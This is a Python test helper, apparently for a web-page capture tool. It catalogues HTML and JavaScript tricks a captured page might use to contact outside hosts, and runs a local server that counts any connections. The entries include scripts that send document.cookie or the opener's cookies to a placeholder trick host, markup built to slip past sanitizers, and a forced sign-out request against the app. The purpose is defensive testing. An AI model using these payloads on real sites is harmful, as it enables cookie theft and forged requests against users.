"""What a captured page might try on whoever looks at it, and a server that counts what came of it."""

from __future__ import annotations

import re
import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

DOT = "data:image/gif;base64,R0lGODlhAQABAAAAACwAAAAAAQABAAA="
# {u} is an address of the trick's own at the counting server, {app} the workbench.
HINTS = {
    "preconnect": '<link rel=preconnect href="{u}">',
    "preconnect-cors": '<link rel=preconnect crossorigin href="{u}">',
    "dns-prefetch": '<link rel=dns-prefetch href="{u}">',
    "prefetch": '<link rel=prefetch href="{u}">',
    "preload": '<link rel=preload as=image href="{u}">',
    "modulepreload": '<link rel=modulepreload href="{u}">',
    "prerender": '<link rel=prerender href="{u}">',
    "stylesheet": '<link rel=stylesheet href="{u}">',
    "icon": '<link rel=icon href="{u}">',
    "manifest": '<link rel=manifest href="{u}">',
    "next": '<link rel=next href="{u}">',
    "lookups": '<meta http-equiv=x-dns-prefetch-control content=on><a href="{u}"></a>',
    "own-policy": "<meta http-equiv=content-security-policy content=\"img-src *; script-src 'unsafe-inline'\">",
    "speculation": '<script type=speculationrules>{{"prefetch":[{{"urls":["{u}"],"eagerness":"immediate"}}]}}</script>',
    "importmap": '<script type=importmap>{{"imports":{{"x":"{u}"}}}}</script>',
    "module": '<script type=module>import "{u}"</script>',
    "script": '<script src="{u}"></script>',
    "import": '<style>@import "{u}";</style>',
}
HIDDEN = {
    "in-svg": '<svg><style><p><link rel=preconnect href="{u}"></style></svg>',
    "in-foreign": '<svg><foreignObject><link rel=preconnect href="{u}"></foreignObject></svg>',
    "in-shadow": '<div><template shadowrootmode=open><link rel=preconnect href="{u}"></template></div>',
    "in-noscript": '<noscript><link rel=preconnect href="{u}"></noscript>',
    "in-srcdoc": '<iframe srcdoc="&lt;link rel=preconnect href={u}&gt;"></iframe>',
    "in-data-frame": '<iframe src="data:text/html,<link rel=preconnect href={u}>"></iframe>',
    "ended-comment": '<!-- --!><link rel=preconnect href="{u}"><p>',
    "in-capitals": '<LINK\fREL=preconnect\nHREF="{u}">',
}
EMBEDDED = {
    "img": '<img src="{u}">',
    "srcset": '<img srcset="{u} 1x">',
    "picture": '<picture><source srcset="{u}"><img></picture>',
    "iframe": '<iframe src="{u}"></iframe>',
    "object": '<object data="{u}"></object>',
    "embed": '<embed src="{u}">',
    "video": '<video src="{u}" autoplay muted></video>',
    "poster": '<video poster="{u}"></video>',
    "audio": '<audio src="{u}" autoplay muted></audio>',
    "track": '<video><track default src="{u}"></video>',
    "image-button": '<input type=image src="{u}">',
    "background": '<table background="{u}"><tr><td>x</table>',
    "css-image": '<p style="background: url({u})">x',
    "css-set": "<p style=\"background: image-set('{u}' 1x)\">x",
    "css-cursor": '<p style="list-style: url({u}) inside; display: list-item">x',
    "font": "<style>@font-face {{ font-family: f; src: url({u}) }}</style><p style='font-family: f'>x",
    "svg-use": '<svg><use href="{u}#a"/></svg>',
    "svg-image": '<svg><image href="{u}" width=9 height=9 /></svg>',
    "svg-script": '<svg><script href="{u}"/></svg>',
    "attribution": f'<img src="{DOT}" attributionsrc="{{u}}">',
}
SCRIPTED = {
    "fetch": "fetch('{u}', {{mode: 'no-cors'}})",
    "xhr": "var x = new XMLHttpRequest; x.open('GET', '{u}'); x.send()",
    "beacon": "navigator.sendBeacon('{u}', document.cookie)",
    "socket": "new WebSocket('{u}'.replace('http', 'ws'))",
    "events": "new EventSource('{u}')",
    "worker": "navigator.serviceWorker.register('{u}')",
    "image": "new Image().src = '{u}'",
    "window": "window.open('{u}')",
    "parent": "new Image().src = '{u}?' + parent.document.body.innerHTML.length",
    "opener": "new Image().src = '{u}?' + (opener || parent).document.cookie",
    "workbench": "fetch('{app}/', {{credentials: 'include'}}).then(() => new Image().src = '{u}')",
    "sign-out": "fetch('{app}/sign-out/', {{method: 'POST', credentials: 'include', mode: 'no-cors'}})",
    "storage": "localStorage.x = 1; sessionStorage.x = 1; document.cookie = 'x=1'; new Image().src = '{u}'",
    "dialogs": "alert(1); confirm(2); print()",
    "handler": f"</script><img src='{DOT}' onload=\"new Image().src='{{u}}'\"><script>",
}
SCRIPTED = {name: f"<script>{script}</script>" for name, script in SCRIPTED.items()}
# These leave the page, so each has one of its own.
LEAVING = {
    "refresh": '<meta http-equiv=refresh content="0;url={u}">',
    "location": "<script>location = '{u}'</script>",
    "top-location": "<script>top.location = '{u}'</script>",
    "submitting": '<form id=f action="{u}"></form><script>f.submit()</script>',
    "frameset": '<frameset cols="*"><frame src="{u}"></frameset>',
}
LINK = '<a class=bait href="{u}">a link</a>'
CLICKED = {
    "link": LINK,
    "link-top": '<a class=bait target=_top href="{u}">a link</a>',
    "link-parent": '<a class=bait target=_parent href="{u}">a link</a>',
    "link-blank": '<a class=bait target=_blank rel=opener href="{u}">a link</a>',
    "link-ping": '<a class=bait ping="{u}" href="#x">a link</a>',
    "link-download": '<a class=bait download href="{u}">a link</a>',
    "link-data": '<a class=bait download=x.html href="data:text/html,x">a link</a>',
    "link-script": "<a class=bait href=\"javascript:location='{u}'\">a link</a>",
    "link-based": '<base href="{u}"><a class=bait href="/x">a link</a>',
    "svg-link": '<svg width=90 height=20><a class=bait href="{u}"><text y=15>a link</text></a></svg>',
    "svg-xlink": '<svg width=90 height=20><a class=bait xlink:href="{u}"><text y=15>a link</text></a></svg>',
    "svg-set": "<svg width=90 height=20><a class=bait><text y=15>a link</text>"
    '<set attributeName=href to="{u}"/></a></svg>',
    "svg-animate": "<svg width=90 height=20><a class=bait><text y=15>a link</text>"
    '<animate attributeName=href values="{u}" dur=99s /></a></svg>',
    "map": f'<img class=bait width=40 height=40 usemap="#m" src="{DOT}">'
    '<map name=m><area shape=default href="{u}"></map>',
    "form": '<form action="{u}"><button class=bait>a button</button></form>',
    "form-blank": '<form target=_blank action="{u}"><button class=bait>a button</button></form>',
    "form-action": '<form><button class=bait formaction="{u}" formmethod=post>a button</button></form>',
    "form-workbench": '<form method=post action="{app}/sign-out/"><button class=bait>a button</button></form>',
}
AT_ONCE = HINTS | HIDDEN | EMBEDDED | SCRIPTED


class Trap(ThreadingHTTPServer):
    """A server of the publisher's, which counts connections, whether or not anything is asked over them."""

    daemon_threads = True

    def __init__(self):
        super().__init__(("127.0.0.1", 0), _Counting)
        self.connections, self.page = 0, ""
        threading.Thread(target=self.serve_forever, args=(0.02,), daemon=True).start()

    @property
    def url(self):
        return f"http://trap.localhost:{self.server_port}"

    def verify_request(self, request, client_address):
        self.connections += 1
        return True

    def handle_error(self, request, client_address):
        """Say nothing of browsers that have left already."""

    def address(self, name):
        return f"http://{name}.trick.localhost:{self.server_port}/x"

    def written(self, tricks, app):
        """A page of such tricks."""
        return "\n".join(html.format(u=self.address(name), app=app) for name, html in tricks.items())


class _Counting(BaseHTTPRequestHandler):
    def do_GET(self):
        body = self.server.page.encode() if self.path == "/page" else b""
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8" if body else "image/gif")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def do_POST(self):
        self.do_GET()

    def log_message(self, *args):
        pass


def heard_of(log):
    """The tricks whose host a browser had anything to do with, by its own network log: a name looked up is enough."""
    return set(re.findall(r"([a-z-]+)\.trick\.localhost", log.read_text()))
